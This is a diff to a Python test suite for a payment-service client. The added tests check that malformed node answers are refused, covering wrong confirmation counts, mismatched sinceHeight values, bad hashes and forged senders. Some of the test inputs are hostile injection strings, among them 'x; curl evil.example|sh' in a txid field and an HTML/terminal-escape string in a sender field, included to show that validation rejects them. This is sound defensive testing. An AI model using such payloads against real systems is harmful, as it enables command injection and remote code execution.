@@ -29,19 +29,22 @@ def refusal(status: int, retry_after: str | None = None) -> Answer:
     return answer({"ok": False, "error": "no, and this is why"}, status, retry_after)
 
 
+HASH = "ab" * 32
+
+
 def payment(state: str, *, synced: bool = True, **changes: Any) -> Answer:
-    content = {
+    content: dict[str, Any] = {
         "state": state,
         "reference": "order-1",
         "recipient": SHOP,
         "amount": "100",
-        "canonical": False,
-        "confirmations": 0,
+        "canonical": state in ("confirming", "confirmed"),
+        "confirmations": {"confirming": 1, "confirmed": 3}.get(state, 0),
         "requiredConfirmations": 3,
         "matchCount": 0,
         "mismatches": [],
-        "tip": {"height": "1", "hash": "ab"},
-        "node": {"height": "1", "hash": "ab", "synced": synced},
+        "tip": {"height": "1", "hash": HASH},
+        "node": {"height": "1", "hash": HASH, "synced": synced},
     }
     return answer({"ok": True, "payment": content | changes})
 
@@ -150,7 +153,7 @@ def test_a_node_makes_up_only_references_that_are_some(reference: str) -> None:
     [
         (lambda: calls.payment(ORDER), "payment", {**json.loads(payment("unpaid").body)["payment"], "amount": "99"}),
         (lambda: calls.account(SHOP), "account", {"address": THIEF}),
-        (lambda: calls.block_hash(7), "block", {"height": "8", "hash": "ab"}),
+        (lambda: calls.block_hash(7), "block", {"height": "8", "hash": HASH}),
         (lambda: calls.watch("svcwh_1"), "subscription", {"id": "svcwh_2"}),
         (lambda: calls.cancel("svcwh_1"), "subscription", {"id": "svcwh_2"}),
         (lambda: calls.register(ORDER, "https://a/"), "subscription", {"reference": "order-2"}),
@@ -266,6 +269,17 @@ def test_a_page_of_another_server_is_no_sentence() -> None:
         payment("unpaid", amount="9007199254740992"),
         payment("unpaid", confirmations=1.5),
         payment("unpaid", canonical=1),
+        payment("confirmed", canonical=False),
+        payment("confirmed", confirmations=2),
+        payment("confirmed", confirmations=2**53),
+        payment("confirmed", sinceHeight="0"),
+        payment("confirmed", amountSvc="1"),
+        payment("pending", txid="x; curl evil.example"),
+        payment("pending", txid="AB" * 32),
+        payment("confirming", blockHash="ab"),
+        payment("confirming", tip={"height": "1", "hash": "ab"}),
+        payment("unpaid", mismatches=[{"txid": "ab", "amount": "1"}]),
+        payment("unpaid", mismatches=[{"txid": HASH, "amount": "1", "amountSvc": "1"}]),
         payment("confirmed", reference="order-2"),
         payment("confirmed", amount="101"),
         payment("confirmed", recipient="svcd1qn5fh7d4g9cgv7j2enrscapqrvw8e85ye872pwt"),
@@ -273,6 +287,18 @@ def test_a_page_of_another_server_is_no_sentence() -> None:
 )
 def test_an_answer_that_makes_no_sense_is_an_error(came: Answer) -> None:
     assert isinstance(Ran(calls.payment(ORDER), [came]).error, svc_pay.InvalidAnswer)
+
+
+@pytest.mark.parametrize("told", [None, "0", "1001", 1000])
+def test_an_answer_with_another_height_to_begin_with_is_refused(told: object) -> None:
+    """A transfer under the same reference from before that height would pay the order."""
+    order = Order("order-1", SHOP, 100, 3, since_height=1000)
+    assert Ran(calls.payment(order), [payment("confirmed", sinceHeight="1000")]).result.settled
+    ran = Ran(calls.payment(order), [payment("confirmed", sinceHeight=told)])
+    assert "sinceHeight differs" in str(ran.error)
+    content = {**json.loads(payment("unpaid").body)["payment"], "sinceHeight": told}
+    ran = Ran(calls.register(order, "https://a/"), [answer({"ok": True, "subscription": content})])
+    assert "sinceHeight differs" in str(ran.error)
 
 
 def test_a_wait_asks_with_the_state_it_knows() -> None:
@@ -333,12 +359,12 @@ def test_a_wait_goes_on_without_its_node_until_its_deadline(monkeypatch: pytest.
 
 
 def test_payments_are_read_page_after_page_and_told_once() -> None:
-    one = {"txid": "ab", "sender": SHOP, "reference": None, "amount": "5", "canonical": False, "confirmations": 0}
+    one = {"txid": HASH, "sender": SHOP, "reference": None, "amount": "5", "canonical": False, "confirmations": 0}
     pages = [{"payments": [one], "next": "x"}, {"payments": [], "next": "y"}]
     pages.append({"payments": [{**one, "canonical": True, "confirmations": 1, "blockHeight": "9"}], "next": None})
     steps = calls.payments(SHOP, reference=None, amount=None, since_height=None)
     ran = Ran(steps, [answer({"ok": True, **page}) for page in pages])
-    assert [(each.txid, each.canonical, each.block_height) for each in ran.result] == [("ab", True, 9)]
+    assert [(each.txid, each.canonical, each.block_height) for each in ran.result] == [(HASH, True, 9)]
     assert [call.query.get("after") for call in ran.calls] == [None, "x", "y"]
 
 
@@ -376,13 +402,35 @@ def test_the_timeout_of_a_client_is_for_a_whole_list(monkeypatch: pytest.MonkeyP
 def test_a_list_has_only_the_transfers_that_were_asked_for(
     asked: dict[str, Any], lie: dict[str, object], sentence: str
 ) -> None:
-    one = {"txid": "ab", "sender": SHOP, "reference": "order-1", "amount": "5", "canonical": True, "confirmations": 1}
+    one = {"txid": HASH, "sender": SHOP, "reference": "order-1", "amount": "5", "canonical": True, "confirmations": 1}
     one |= {"blockHeight": "10", "mismatch": None}
     good = Ran(calls.payments(SHOP, **asked), [answer({"ok": True, "payments": [one], "next": None})])
-    assert [each.txid for each in good.result] == ["ab"]
+    assert [each.txid for each in good.result] == [HASH]
     ran = Ran(calls.payments(SHOP, **asked), [answer({"ok": True, "payments": [one | lie], "next": None})])
     assert isinstance(ran.error, svc_pay.InvalidAnswer)
     assert sentence in str(ran.error)
+
+
+@pytest.mark.parametrize(
+    "lie",
+    [
+        {"txid": "x; curl evil.example|sh"},
+        {"sender": "<img src=x>\x1b[2J"},
+        {"sender": "svc1qqr0t67zeqfa0ed44hudd8s2a88ysuh7ytvpxz4"},
+        {"sender": SHOP[:-1] + "q"},
+        {"mismatch": "bogus"},
+        {"blockHash": "ab"},
+        {"amountSvc": "1"},
+        {"confirmations": 2**53},
+    ],
+)
+def test_a_transfer_with_an_impossible_value_is_refused(lie: dict[str, object]) -> None:
+    one = {"txid": HASH, "sender": SHOP, "reference": None, "amount": "5", "amountSvc": "0.00000005", "canonical": True}
+    one |= {"confirmations": 1, "blockHeight": "10", "blockHash": HASH, "mismatch": "duplicate"}
+    good = Ran(calls.payments(SHOP), [answer({"ok": True, "payments": [one], "next": None})])
+    assert [each.mismatch for each in good.result] == ["duplicate"]
+    ran = Ran(calls.payments(SHOP), [answer({"ok": True, "payments": [one | lie], "next": None})])
+    assert isinstance(ran.error, svc_pay.InvalidAnswer)
 
 
 @pytest.mark.parametrize(
